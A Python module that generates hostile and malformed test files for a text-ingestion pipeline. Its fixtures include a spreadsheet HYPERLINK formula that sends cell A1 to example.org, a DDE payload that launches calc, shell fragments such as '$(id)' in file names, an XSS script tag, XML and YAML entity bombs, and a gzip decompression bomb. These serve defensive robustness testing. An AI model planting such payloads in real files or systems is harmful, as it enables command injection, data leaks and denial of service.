"""Files that nobody should have to read, made from a seed: each ends in a document or in a reason, never in a crash."""

from __future__ import annotations

import gzip
import json
import os
import random
from collections.abc import Iterator
from pathlib import Path

GOOD = "Egypt called for a ceasefire in Sudan on Monday. “We reject it,” said Omar Bashir.\n"
FORMULA = '=HYPERLINK("http://example.org/?"&A1,"read")'
SEED = 2031


def write(folder: Path, bomb: int = 1 << 30) -> list[str]:
    """Write the files into a folder and return their names; ``bomb`` is what the packed ones unpack to, in bytes."""
    names = []
    for name, content in files(bomb):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
        names.append(name)
    return names


def files(bomb: int) -> Iterator[tuple[str, bytes]]:
    """Yield name and content of each file."""
    draw = random.Random(SEED)
    row = json.dumps({"id": "%s", "title": "T", "text": GOOD}) + "\n"
    csv = f'id,title,text\n"%s",T,"{GOOD.strip().replace(chr(34), chr(34) * 2)}"\n'
    for number in range(60):
        ending = (".txt", ".html", ".md", ".csv", ".jsonl", ".parquet")[number % 6]
        yield f"random/{number}{ending}", draw.randbytes(draw.randrange(1, 5000))
    for number in range(30):
        ending, whole = ((".txt", GOOD), (".jsonl", row % f"t{number}"), (".csv", csv % f"t{number}"))[number % 3]
        packed = gzip.compress((whole * 50).encode(), mtime=0)
        yield f"truncated/{number}{ending}.gz", packed[: draw.randrange(1, len(packed))]
    for number in range(30):
        lines = [*(csv % f"q{number}").splitlines(keepends=True), f'{number}a,T,"Open\n', f"{number}b,T,Fine.\n"]
        wrong = draw.choice(['x,"a"b,c\n', '"\n', "a,b\n", "a,b,c,d,e\n", '"""\n', 'a,"b\nc,d\n'])
        yield f"quoting/{number}.csv", "".join([*lines[:2], wrong, *lines[2:]]).encode()
    for number in range(20):
        # U+2028, a carriage return, a line break, a backspace, a bell: what names may hold.
        odd = draw.choice(
            ["\n", "\r", "\b", "\a", "\u2028", "'", '"', ";", "$(id)", "&&", "<b>", "\u202e", " ", "%00", "é"]
        )
        yield f"names/{number}{odd}{number}.txt", GOOD.encode()
    for number in range(20):
        depth = 10 ** (1 + number % 5)
        value = "[" * depth + "]" * depth if number % 2 else '{"a":' * depth + "1" + "}" * depth
        yield (
            f"deep/{number}.jsonl",
            f'{{"id": "deep{number}", "text": {value}}}\n'.encode() + (row % f"after{number}").encode(),
        )
    for number, start in enumerate(("=", "+", "-", "@", "\t", "\r") * 3):
        cells = {"id": f"{start}f{number}", "title": FORMULA, "text": f"{start}cmd|' /C calc'!A0\n\n{GOOD}"}
        yield f"formulas/{number}.jsonl", (json.dumps(cells) + "\n").encode()
    for number in range(12):
        form = (
            "<html><body>" + "<div>" * 20_000,
            f"<html><body><article><p>{GOOD}</p><script>alert(1)</script></article>",
            "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;'>]><html><body>&b;</body></html>",
            "<p " + "a=1 " * 50_000 + ">",
        )[number % 4]
        yield f"pages/{number}.html", form.encode()
    for number in range(12):
        text = f"id,text\nz{number},Null\x00inside.\n" if number % 2 else f"Control {chr(1 + number) * 500}"
        yield f"controls/{number}{'.csv' if number % 2 else '.txt'}", text.encode()
    front = "---\na: &a [x,x,x,x]\nb: &b [*a,*a,*a,*a]\nc: [*b,*b,*b,*b]\ntitle: [no, text]\n---\n" + GOOD
    yield "front.md", front.encode()
    yield "surrogate.jsonl", b'{"id": "s", "text": "\\ud800 half"}\n'
    yield "half.jsonl", b'{"id": "h", "text": '
    yield "nan.jsonl", b'{"id": NaN, "text": "x"}\n{"id": 1e999, "text": "x"}\n'
    yield "digits.jsonl", b'{"id": ' + b"9" * 10_000 + b', "text": "x"}\n'
    yield "empty.txt", b""
    yield "empty.parquet", b""
    yield "picture.png", b"\x89PNG\r\n\x1a\n"
    yield "word.txt", b"word" * 2_500_000  # 10 MB of one word
    yield "word.jsonl", b'{"id": "w", "text": "' + b"word" * 2_500_000 + b'"}\n' + (row % "after-word").encode()
    yield "bomb.txt.gz", _bomb(bomb)
    yield "bomb.jsonl.gz", _bomb(bomb)


def _bomb(size: int) -> bytes:
    """Return an archive that unpacks to so many zeros."""
    block = gzip.compress(b"0" * (1 << 24), mtime=0)  # archives may be put one after the other
    return block * max(1, size >> 24)


def undecodable(folder: Path) -> None:
    """Write a file whose name is not UTF-8."""
    with open(os.fsencode(folder) + b"/\xff\xfe.txt", "wb") as file:  # noqa: PTH123
        file.write(GOOD.encode())
